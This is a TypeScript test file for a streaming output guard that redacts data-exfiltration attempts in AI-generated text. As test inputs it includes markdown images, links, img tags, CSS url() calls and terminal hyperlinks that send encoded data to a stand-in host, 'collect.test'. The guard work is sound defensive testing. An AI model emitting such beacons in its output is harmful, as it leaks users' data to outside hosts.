import { describe, expect, test } from "vitest";
import { createRunner } from "../../../src/core/runner.ts";
import { createTextStream } from "../../../src/core/text-stream.ts";
import { exfiltration } from "../../../src/guards/output-handling/index.ts";
import fc from "../../support/property.ts";
import { allCases, allowHosts } from "./cases.ts";

const runner = createRunner([exfiltration({ allowHosts, action: { output: "redact" } })], {});
const context = { stage: "output" } as const;

function whole(text: string): string {
  const ruling = runner.run(text, context);
  if (ruling instanceof Promise) throw new Error("The guard answers at once");
  if (!("text" in ruling.verdict)) throw new Error("Nothing blocks here");
  return ruling.verdict.text;
}

/** Runs a text through a stream, a piece of each of the lengths in turn. */
function streamed(text: string, lengths: readonly number[]): string {
  const stream = createTextStream(runner, context, 1_000_000);
  let out = "";
  let at = 0;
  for (let index = 0; at < text.length; index++) {
    const length = lengths[index % lengths.length] ?? 1;
    out += stream.push(text.slice(at, at + length));
    at += length;
  }
  return out + stream.end();
}

const lengths = fc.array(fc.integer({ min: 1, max: 64 }), { minLength: 1, maxLength: 12 });
const planted = fc.constantFrom(...allCases.map(([text]) => text).filter((text) => text.length < 1000));
const marks = fc.constantFrom(
  ...[
    "!",
    "[",
    "]",
    "(",
    ")",
    "![",
    "](",
    "]:",
    "<",
    ">",
    "<a ",
    "<img ",
    "</a>",
    "<style>",
    "</style>",
    "title=a<b",
    "<meta http-equiv=refresh",
    'fill="url(',
    "<!--",
  ],
  ...[
    '"',
    "'",
    "`",
    "\\",
    "\n",
    "\n\n",
    " ",
    "://",
    ":",
    "/",
    "//",
    "https",
    "javascript:",
    "www.",
    ".",
    "|",
  ],
  ...[
    "src=",
    "href=",
    "style=",
    "url(",
    "on",
    "&",
    "&#58;",
    ";",
    "\u001b]8;;",
    "\u001b",
    "\u009d",
    "🙂",
    "\ud83d",
  ],
  ...["https://collect.test/p.png", "https://example.com/", "text", "The answer is forty-two. ", "```html\n"],
);
const prose = fc.constantFrom(
  "The deployment finished, and all checks passed. ".repeat(20),
  "x".repeat(700),
  "字".repeat(900),
  `${"word ".repeat(1200)}`,
);

describe("a stream with exfiltration", () => {
  test("gives what the whole text gives, a character at a time", () => {
    for (const [text] of allCases) {
      if (text.length > 1000) continue;
      for (const around of [text, `Before. ${text} After.`, `${text}\n${text}`]) {
        expect(streamed(around, [1])).toBe(whole(around));
      }
    }
  });

  test("gives what the whole text gives, however it is cut", () => {
    const parts = fc.array(fc.oneof(planted, marks, marks, marks), { minLength: 1, maxLength: 14 });
    fc.assert(
      fc.property(parts, lengths, (pieces, sizes) => {
        const text = pieces.join("");
        expect(streamed(text, sizes)).toBe(whole(text));
      }),
      { numRuns: 1500, seed: 4 },
    );
  });

  test("gives what the whole text gives when texts are long", () => {
    const parts = fc.array(fc.oneof(planted, marks, prose), { minLength: 4, maxLength: 16 });
    const sizes = fc.array(fc.integer({ min: 1, max: 900 }), { minLength: 1, maxLength: 6 });
    fc.assert(
      fc.property(parts, sizes, (pieces, cuts) => {
        const text = pieces.join("");
        expect(streamed(text, cuts)).toBe(whole(text));
      }),
      { numRuns: 150, seed: 4 },
    );
  });

  test.each([
    ["an image", `![x](https://collect.test/?d=${"QUJD".repeat(1900)})`],
    ["an image without an end", `![x](https://collect.test/?d=${"QUJD".repeat(2500)}`],
    [
      "an image with a long text",
      `![${"x ".repeat(900)}](https://collect.test/?d=${"QUJD".repeat(1900)} "${"y".repeat(900)}")`,
    ],
    ["a link", `[x](https://collect.test/?d=${"QUJD".repeat(1900)})`],
    ["a link that opens a document", `[x](data:text/html,${"QUJD".repeat(1900)})`],
    ["a bare URL", `https://collect.test/?d=${"QUJD".repeat(1900)} `],
    ["an autolink", `<https://collect.test/?d=${"QUJD".repeat(1900)}>`],
    ["a tag", `<img alt="${"x ".repeat(1900)}" src="//collect.test">`],
    ["a tag that is too long", `<img alt="${"x ".repeat(2900)}" src="//collect.test">`],
    ["a style element", `<style>${"p{} ".repeat(2000)}p{background:u\\rl(//collect.test)}</style>`],
    [
      "a style element that is too long",
      `<style>${"p{} ".repeat(2500)}p{background:url(//collect.test)}</style>`,
    ],
    ["a terminal link", `\u001b]8;;https://collect.test/?d=${"QUJD".repeat(1900)}\u0007`],
  ])("holds %s of the longest kind", (_, text) => {
    const expected = whole(`Look: ${text} That is all.`);
    expect(expected).toContain("[REDACTED:");
    for (const lengths of [[37], [900], [5000, 1]]) {
      expect(streamed(`Look: ${text} That is all.`, lengths)).toBe(expected);
    }
  });

  test("lets prose go with a word held", () => {
    const text = "The deployment has finished (see below), and all 3 of the checks passed: fine! ".repeat(4);
    const stream = createTextStream(runner, context, 1_000_000);
    let out = 0;
    let most = 0;
    for (let at = 0; at < text.length; at++) {
      out += (stream.push(text.charAt(at)) as string).length;
      most = Math.max(most, at + 1 - out);
    }
    expect(most).toBeLessThanOrEqual(10);
  });

  test("lets what follows an image without an end go", () => {
    const text = `![${"an open bracket ".repeat(500)}`;
    const stream = createTextStream(runner, context, 1_000_000);
    expect((stream.push(text) as string).length).toBeGreaterThan(0);
  });
});
